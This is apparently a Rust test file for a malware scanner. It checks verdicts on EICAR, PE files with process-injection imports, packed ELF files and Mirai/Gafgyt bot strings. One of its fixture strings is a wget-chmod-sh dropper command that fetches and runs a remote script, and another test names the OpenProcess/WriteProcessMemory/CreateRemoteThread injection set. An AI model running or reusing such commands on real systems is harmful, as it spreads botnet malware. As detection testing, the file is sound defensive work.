//! Files that should be called malicious, and files that should not, through the whole engine with the rules we ship.

use analyzers::{Analyzer, Findings, Incomplete, Indicator, Limit, Sample, Verdict};
use daemon_engine::{Analyzers, Cancel, Limits, Report, RuleSet, assemble, examine};
use testkit::elf::{self, ET_EXEC, R, W, X, elf};
use testkit::pe::{self, CODE, DATA, WRITABLE_CODE, pe};
use triage::FileKind;

fn report(bytes: &[u8]) -> Report {
    let rules = RuleSet::embedded();
    let mut analyzers: Analyzers<'_> = assemble(&rules);
    examine(bytes, &mut analyzers, &Limits::default(), &Cancel::default())
}

#[track_caller]
fn check(bytes: &[u8], verdict: Verdict, because: &[&str]) {
    let report = report(bytes);
    let seen: Vec<&str> = report.evidence.iter().map(|seen| seen.indicator.as_str()).collect();
    assert_eq!(report.opinion.verdict, verdict, "p = {}, seen: {seen:#?}", report.opinion.p_malicious);
    for indicator in because {
        assert!(seen.contains(indicator), "{indicator} was not seen: {seen:#?}");
    }
}

/// What bots of the Gafgyt and Mirai families name their floods and their victims.
const BOT_WORDS: &[&str] = &[
    "UDPFLOOD",
    "HTTPHEX",
    "STOMP",
    "/bin/busybox",
    "wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
    "/proc/net/tcp",
    "GET /%s HTTP/1.1",
    "Mozilla/5.0 (X11; Linux x86_64)",
];

#[test]
fn eicar_is_malicious_and_named() {
    let report = report(&testkit::eicar());
    assert_eq!(report.opinion.verdict, Verdict::Malicious);
    assert_eq!(report.malware_family.as_deref(), Some("EICAR-Test-File"));
    check(&[&testkit::eicar()[..], b" \r\n"].concat(), Verdict::Malicious, &["eicar.file.test"]);
}

#[test]
fn what_only_begins_as_eicar_is_not() {
    let mut almost = testkit::eicar();
    almost.extend_from_slice(b"and more");
    check(&almost, Verdict::Unknown, &[]);
}

#[test]
fn a_program_that_injects_is_malicious() {
    let image = pe()
        .section(".text", CODE, pe::plain_code(4096))
        .section(".data", DATA, vec![0; 512])
        .import("kernel32.dll", &["OpenProcess", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"])
        .build();
    check(&image, Verdict::Malicious, &["pe.import.injection_set"]);
}

#[test]
fn an_ordinary_program_is_benign() {
    check(&pe::ordinary().build(), Verdict::Benign, &[]);
    check(&elf::ordinary().build(), Verdict::Benign, &[]);
}

#[test]
fn packing_alone_is_not_malicious() {
    let packed = pe()
        .section("UPX0", WRITABLE_CODE, Vec::new())
        .virtual_size(0x40000)
        .section("UPX1", WRITABLE_CODE, pe::noise(65536))
        .import("kernel32.dll", &["LoadLibraryA", "GetProcAddress", "VirtualProtect", "ExitProcess"])
        .entry_in(1)
        .dll_characteristics(0)
        .overlay(pe::noise(100_000))
        .build();
    let report = report(&packed);
    assert!(report.opinion.p_malicious < 0.5, "p = {}", report.opinion.p_malicious);
    assert!(report.evidence.iter().any(|seen| seen.indicator.as_str() == "pe.section.writable_executable"));
}

#[test]
fn a_upx_like_elf_without_other_signs_is_not_malicious() {
    for image in [elf::upx_like().build(), elf::upx_like().upx_magic().build()] {
        let report = report(&image);
        assert!(report.opinion.p_malicious < 0.5, "p = {}: {:#?}", report.opinion.p_malicious, report.evidence);
        assert!(!report.evidence.is_empty());
    }
}

#[test]
fn a_upx_like_elf_with_bot_vocabulary_is_malicious() {
    let words = BOT_WORDS.join("\0");
    let image = elf::upx_like().upx_magic().overlay(words).build();
    check(&image, Verdict::Malicious, &["elf.string.flood_vocabulary", "elf.packer.upx_magic"]);
}

#[test]
fn a_bot_stays_malicious_whatever_honest_words_it_adds() {
    // The names of a multi-call program's applets are easily added to any file.
    let applets = "[\0[[\0ash\0awk\0basename\0blkid\0brctl\0cat\0chmod\0chown\0chroot\0cp\0cut\0date\0dd\0df\0dmesg\0du\0echo\0\
        egrep\0env\0expr\0false\0fdisk\0find\0free\0fsck\0getty\0grep\0gunzip\0gzip\0halt\0head\0hostname\0httpd\0id\0ifconfig\0\
        init\0insmod\0kill\0killall\0ln\0login\0ls\0lsmod\0mkdir\0mkfifo\0mknod\0modprobe\0more\0mount\0mv\0nc\0netstat\0nslookup\0\
        passwd\0ping\0ps\0pwd\0reboot\0rm\0rmdir\0rmmod\0route\0sed\0sh\0sleep\0sort\0stty\0sync\0syslogd\0tail\0tar\0telnet\0telnetd\0\
        test\0tftp\0top\0touch\0tr\0traceroute\0true\0tty\0umount\0uname\0uniq\0uptime\0vi\0wc\0wget\0which\0xargs\0yes\0zcat\0BusyBox v1.30.1";
    let image = elf()
        .elf_type(ET_EXEC)
        .load(R | X, elf::noise(4096, 1))
        .load(R | W, [BOT_WORDS.join("\0").as_bytes(), applets.as_bytes()].concat())
        .build();
    check(&image, Verdict::Malicious, &["elf.string.flood_vocabulary"]);
}

#[test]
fn text_is_nobodys_and_unknown() {
    let report = report(b"nothing to see here\n");
    assert_eq!(report.opinion.verdict, Verdict::Unknown);
    assert!(!report.was_judged() && report.incomplete.is_empty());
}

#[test]
fn a_file_above_the_limit_is_unknown_at_once() {
    let rules = RuleSet::embedded();
    let limits = Limits { artifact_bytes_max: 10, ..Limits::default() };
    let report = examine(&pe::ordinary().build(), &mut assemble(&rules), &limits, &Cancel::default());
    assert_eq!(report.opinion.verdict, Verdict::Unknown);
    assert!(report.hit(Limit::Size));
}

#[test]
fn a_cancelled_examination_is_not_benign() {
    let cancel = Cancel::default();
    cancel.cancel();
    let rules = RuleSet::embedded();
    for image in [pe::ordinary().build(), elf::ordinary().build()] {
        let report = examine(&image, &mut assemble(&rules), &Limits::default(), &cancel);
        assert_eq!(report.opinion.verdict, Verdict::Unknown);
        assert_eq!(report.incomplete, [Incomplete::Limit(Limit::Time)]);
    }
}

/// Vouches for programs and texts, and then finds something in each that it cannot account for.
struct Doubts {
    kinds: fn(FileKind) -> bool,
}

impl Analyzer for Doubts {
    fn name(&self) -> &'static str {
        "doubts"
    }

    fn indicators(&self) -> Box<dyn Iterator<Item = &Indicator> + '_> {
        Box::new(std::iter::empty())
    }

    fn wants(&self, _: FileKind) -> bool {
        true
    }

    fn vouches(&self, kind: FileKind) -> bool {
        (self.kinds)(kind)
    }

    fn analyze<'a>(&mut self, _: Sample<'a>, findings: &mut Findings<'a>) {
        findings.cannot_vouch("tail");
    }
}

#[test]
fn what_nobody_accounts_for_takes_benign_away_and_nothing_else() {
    let rules = RuleSet::embedded();
    let mut analyzers = assemble(&rules);
    analyzers.add(|_| Box::new(Doubts { kinds: |kind| matches!(kind, FileKind::Elf(_)) }));
    let mut judge = |bytes: &[u8]| examine(bytes, &mut analyzers, &Limits::default(), &Cancel::default());

    let quiet = judge(&elf::ordinary().build());
    assert_eq!(quiet.opinion.verdict, Verdict::Unknown);
    assert_eq!(quiet.incomplete, [Incomplete::Unaccounted("tail".into())]);
    assert!(!quiet.rests_on_all());

    let bot = judge(&elf::upx_like().upx_magic().overlay(BOT_WORDS.join("\0")).build());
    assert_eq!(bot.opinion.verdict, Verdict::Malicious);
    assert!(bot.rests_on_all() && !bot.incomplete.is_empty());

    // Nobody vouches for a text, so there is no voucher to take back.
    assert_eq!(judge(b"nothing to see here\n").incomplete, []);
}
